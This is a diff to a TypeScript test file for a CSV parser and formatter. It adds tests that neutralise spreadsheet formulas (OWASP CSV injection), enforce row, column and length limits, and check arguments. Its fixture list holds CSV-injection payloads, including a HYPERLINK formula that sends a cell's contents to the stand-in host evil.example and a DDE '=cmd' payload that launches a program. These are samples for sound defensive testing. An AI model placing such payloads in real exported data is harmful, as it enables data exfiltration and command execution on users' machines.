@@ -2,7 +2,8 @@ import { describe, expect, it } from 'vitest';
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import fc from 'fast-check';
-import { formatCsv, parseCsv } from './csv.js';
+import { CSV_LIMITS, formatCsv, isFormulaLike, parseCsv, restoreFormula } from './csv.js';
+import type { CsvRecord } from './csv.js';
 
 const fieldsOf = (text: string, delimiter = ',') =>
   parseCsv(text, delimiter).records.map((r) => r.fields);
@@ -115,10 +116,11 @@ describe('parseCsv', () => {
 });
 
 describe('formatCsv', () => {
-  it('quotes only where needed and never changes the text', () => {
+  it('quotes only where needed and changes no text but a formula', () => {
     expect(
       formatCsv([['id', 'text'], ['a', 'x, "y"'], ['b', '=SUM(A1)'], ['c', ' padded'], ['']]),
-    ).toBe('id,text\r\na,"x, ""y"""\r\nb,=SUM(A1)\r\nc," padded"\r\n""\r\n');
+    ).toBe('id,text\r\na,"x, ""y"""\r\nb,"\'=SUM(A1)"\r\nc," padded"\r\n""\r\n');
+    expect(formatCsv([['b', '=SUM(A1)']], { neutraliseFormulas: false })).toBe('b,=SUM(A1)\r\n');
   });
 
   it('writes a byte order mark and LF line breaks on request', () => {
@@ -141,9 +143,11 @@ describe('formatCsv', () => {
     expect(decoded).toBe(csv);
     const parsed = parseCsv(decoded);
     expect(parsed.issues).toEqual([]);
-    expect(parsed.records.map((r) => r.fields)).toEqual(rows);
+    expect(parsed.records.map((r) => r.fields.map(restoreFormula))).toEqual(rows);
+    const verbatim = parseCsv(formatCsv(rows, { neutraliseFormulas: false }));
+    expect(verbatim.records.map((r) => r.fields)).toEqual(rows);
     // Byte for byte: every field compares equal as UTF-8.
-    parsed.records.forEach((r, i) =>
+    verbatim.records.forEach((r, i) =>
       r.fields.forEach((f, j) =>
         expect(Buffer.from(f, 'utf8').equals(Buffer.from(rows[i]![j]!, 'utf8'))).toBe(true),
       ),
@@ -152,7 +156,10 @@ describe('formatCsv', () => {
 });
 
 describe('parseCsv(formatCsv(rows))', () => {
-  const special = fc.constantFrom('"', ',', ';', '\t', '\r', '\n', '\r\n', ' ', '\uFEFF', '=');
+  const special = fc.constantFrom(
+    ...['"', ',', ';', '\t', '\r', '\n', '\r\n', ' ', '\uFEFF', '=', '+', '-', '@', "'"],
+    ...['\uFF1D', '\uFF0B', '\uFF0D', '\uFF20', '\u3000'],
+  );
   const unit = fc.oneof(special, fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }));
   const field = fc.string({ unit, maxLength: 12 });
   const rows = fc.array(fc.array(field, { minLength: 1, maxLength: 6 }), { maxLength: 8 });
@@ -167,7 +174,13 @@ describe('parseCsv(formatCsv(rows))', () => {
         (input, delimiter, newline, bom) => {
           const parsed = parseCsv(formatCsv(input, { delimiter, newline, bom }), delimiter);
           expect(parsed.issues).toEqual([]);
-          expect(parsed.records.map((r) => r.fields)).toEqual(input);
+          // No cell is written as a live formula, and restoreFormula gives every text back.
+          for (const r of parsed.records)
+            for (const f of r.fields) expect(isFormulaLike(f)).toBe(false);
+          expect(parsed.records.map((r) => r.fields.map(restoreFormula))).toEqual(input);
+          const options = { delimiter, newline, bom, neutraliseFormulas: false };
+          const verbatim = parseCsv(formatCsv(input, options), delimiter);
+          expect(verbatim.records.map((r) => r.fields)).toEqual(input);
         },
       ),
       { numRuns: 500 },
@@ -204,9 +217,183 @@ describe('parseCsv(formatCsv(rows))', () => {
 });
 
 describe('the csv module', () => {
-  it('imports nothing and uses no Node built-ins, so it runs in a browser or a worker', () => {
-    const text = readFileSync(join(import.meta.dirname, 'csv.ts'), 'utf8');
-    expect(text).not.toMatch(/^\s*import\b|\bimport\(|\brequire\(/m);
-    expect(text).not.toMatch(/\bprocess\.|\bBuffer\b|\bglobalThis\b/);
+  it('imports only its own formula module and no Node built-ins, so it runs in a browser or a worker', () => {
+    const csv = readFileSync(join(import.meta.dirname, 'csv.ts'), 'utf8');
+    const imports = [...csv.matchAll(/^\s*(?:import|export)\b[^;]*?from '([^']+)'/gm)].map(
+      (m) => m[1],
+    );
+    expect(new Set(imports)).toEqual(new Set(['./csv-formula.js']));
+    const formula = readFileSync(join(import.meta.dirname, 'csv-formula.ts'), 'utf8');
+    expect(formula).not.toMatch(/^\s*import\b|\bimport\(|\brequire\(/m);
+    for (const text of [csv, formula]) {
+      expect(text).not.toMatch(/\bimport\(|\brequire\(/);
+      expect(text).not.toMatch(/\bprocess\.|\bBuffer\b|\bglobalThis\b/);
+    }
+  });
+});
+
+describe('formula neutralisation (OWASP CSV injection)', () => {
+  const FORMULAS = [
+    '=1+1',
+    '+1+1',
+    '-1+1',
+    '@SUM(A1)',
+    '\t=1+1',
+    '\r=1+1',
+    '\n=1',
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    '\uFF1D1+1', // full-width =
+    '\uFF0B1',
+    '\uFF0D1',
+    '\uFF20SUM(A1)',
+    '  =1+1',
+    '\u3000=1+1', // ideographic space, then =
+    "'=1+1", // a text that really starts with a quote before a formula
+    "''-2",
+  ];
+
+  it('writes every formula-like text with a leading quote, quoted, and no cell as a live formula', () => {
+    for (const text of FORMULAS) {
+      const csv = formatCsv([[text]]);
+      expect(csv.startsWith(`"'`), JSON.stringify(text)).toBe(true);
+      const [field] = parseCsv(csv).records[0]!.fields;
+      expect(isFormulaLike(field!)).toBe(false);
+      expect(restoreFormula(field!)).toBe(text);
+    }
+  });
+
+  it('leaves other text alone, a quote that guards nothing included', () => {
+    for (const text of ['Bürgerbüro', "'Tis", "it's", 'a=b', 'x-1', '', ' ', '1', '3.5', 'e-mail'])
+      expect(parseCsv(formatCsv([[text, 'x']])).records[0]!.fields[0]).toBe(text);
+  });
+
+  it('writes number cells as numbers, negative ones included, and refuses other values', () => {
+    expect(formatCsv([['a', -3, 0.25, 12]])).toBe('a,-3,0.25,12\r\n');
+    expect(formatCsv([['a', '-3']])).toBe('a,"\'-3"\r\n');
+    expect(() => formatCsv([['a', Number.NaN]])).toThrow(/finite/);
+    expect(() => formatCsv([['a', null as unknown as string]])).toThrow(
+      /string or a number, got null/,
+    );
+    expect(() => formatCsv(null as unknown as string[][])).toThrow(/rows must be an array/);
+  });
+
+  it('restoreFormula reverses neutraliseFormula exactly, for any text', () => {
+    const unit = fc.oneof(
+      fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', ' ', '\u3000', '\uFF1D', '"'),
+      fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }),
+    );
+    fc.assert(
+      fc.property(fc.string({ unit, maxLength: 10 }), (text) => {
+        const written = parseCsv(formatCsv([[text, '']])).records[0]!.fields[0]!;
+        expect(isFormulaLike(written)).toBe(false);
+        expect(restoreFormula(written)).toBe(text);
+      }),
+      { numRuns: 1000 },
+    );
+  });
+});
+
+describe('parseCsv on hostile input and at its limits', () => {
+  it('reads one million empty records (the issue 12 reproduction; its time is in bench/)', () => {
+    const text = '\n'.repeat(1_000_000);
+    const skipped = parseCsv(text, { skipBlankLines: true });
+    expect(skipped).toEqual({ records: [], issues: [] });
+    const kept = parseCsv(text.slice(0, 200_000));
+    expect(kept.issues).toEqual([]);
+    expect(kept.records).toHaveLength(200_000);
+    expect(kept.records[199_999]).toEqual({ line: 200_000, fields: [''] });
+    // One more line passes the default limit of rows, blank ones included.
+    const tooMany = parseCsv(`${text}x`, { skipBlankLines: true });
+    expect(tooMany.issues.map((i) => [i.line, i.code])).toEqual([[1_000_001, 'too-many-rows']]);
+    expect(parseCsv(text, { maxRows: 1000 }).records).toHaveLength(1000);
+  });
+
+  it('reads a field of 100,000 doubled quotes and one of 100,000 line breaks', () => {
+    const quotes = parseCsv(`"${'""'.repeat(100_000)}",x\n`);
+    expect(quotes.records[0]!.fields).toEqual(['"'.repeat(100_000), 'x']);
+    const breaks = parseCsv(`"${'\r\n'.repeat(100_000)}"\nnext\n`);
+    expect(breaks.records.map((r) => r.line)).toEqual([1, 100_002]);
+  });
+
+  it('stops at maxRows with a too-many-rows issue naming the limit and the first line not read', () => {
+    const result = parseCsv('a\nb\nc\nd\n', { maxRows: 2 });
+    expect(result.records.map((r) => r.fields)).toEqual([['a'], ['b']]);
+    expect(result.issues).toEqual([
+      {
+        line: 3,
+        column: 1,
+        code: 'too-many-rows',
+        message:
+          'The CSV has more than 2 rows, the limit (maxRows); no row from line 3 on was read.',
+      },
+    ]);
+    expect(parseCsv('a\nb\n', { maxRows: 2 }).issues).toEqual([]);
+  });
+
+  it('stops at maxColumns and maxLength with their own issues', () => {
+    const wide = parseCsv('a,b\nc,d,e\nf\n', { maxColumns: 2 });
+    expect(wide.records.map((r) => r.fields)).toEqual([['a', 'b']]);
+    expect(wide.issues.map((i) => [i.line, i.column, i.code])).toEqual([
+      [2, 3, 'too-many-columns'],
+    ]);
+    expect(wide.issues[0]!.message).toContain('more than 2 columns, the limit (maxColumns)');
+    const long = parseCsv('a,b\n', { maxLength: 3, delimiter: ',' });
+    expect(long.records).toEqual([]);
+    expect(long.issues.map((i) => [i.line, i.code])).toEqual([[1, 'csv-too-long']]);
+    expect(long.issues[0]!.message).toContain('longer than the limit of 3 (maxLength)');
+  });
+
+  it('has documented default limits', () => {
+    expect(CSV_LIMITS).toEqual({ maxRows: 1_000_000, maxColumns: 10_000, maxLength: 134_217_728 });
+    expect(parseCsv(','.repeat(10_000)).issues.map((i) => i.code)).toEqual(['too-many-columns']);
+  });
+
+  it('checks its arguments at the door and names the wrong one', () => {
+    expect(() => parseCsv(null as unknown as string)).toThrow(
+      new TypeError('parseCsv: text must be a string of CSV, got null.'),
+    );
+    expect(() => parseCsv(42 as unknown as string)).toThrow(
+      /text must be a string of CSV, got a number/,
+    );
+    expect(() => parseCsv('', { maxRows: 0 })).toThrow(
+      /options\.maxRows must be a positive whole number, got a number/,
+    );
+    expect(() => parseCsv('', { delimiter: '""' })).toThrow(/delimiter/);
+    expect(() => parseCsv('', 3 as unknown as string)).toThrow(
+      /options must be a delimiter or an options object/,
+    );
+  });
+});
+
+describe('parseCsv with skipBlankLines', () => {
+  it('gives no record for an empty line but counts it as a line and a row', () => {
+    const text = 'a\n\r\n\rb\n""\n';
+    expect(parseCsv(text, { skipBlankLines: true }).records).toEqual([
+      { line: 1, fields: ['a'] },
+      { line: 4, fields: ['b'] },
+      { line: 5, fields: [''] },
+    ]);
+    expect(
+      parseCsv('\n'.repeat(10), { skipBlankLines: true, maxRows: 5 }).issues.map((i) => [
+        i.line,
+        i.code,
+      ]),
+    ).toEqual([[6, 'too-many-rows']]);
+    fc.assert(
+      fc.property(
+        fc.string({ unit: fc.constantFrom('a', ',', '"', '\r', '\n'), maxLength: 30 }),
+        (t) => {
+          const all = parseCsv(t);
+          const skipped = parseCsv(t, { skipBlankLines: true });
+          expect(skipped.issues).toEqual(all.issues);
+          const blankLine = (r: CsvRecord) =>
+            r.fields.length === 1 &&
+            r.fields[0] === '' &&
+            /^(?:\r|\n|$)/.test(t.split(/\r\n|\r|\n/)[r.line - 1] ?? '');
+          expect(skipped.records).toEqual(all.records.filter((r) => !blankLine(r)));
+        },
+      ),
+    );
   });
 });
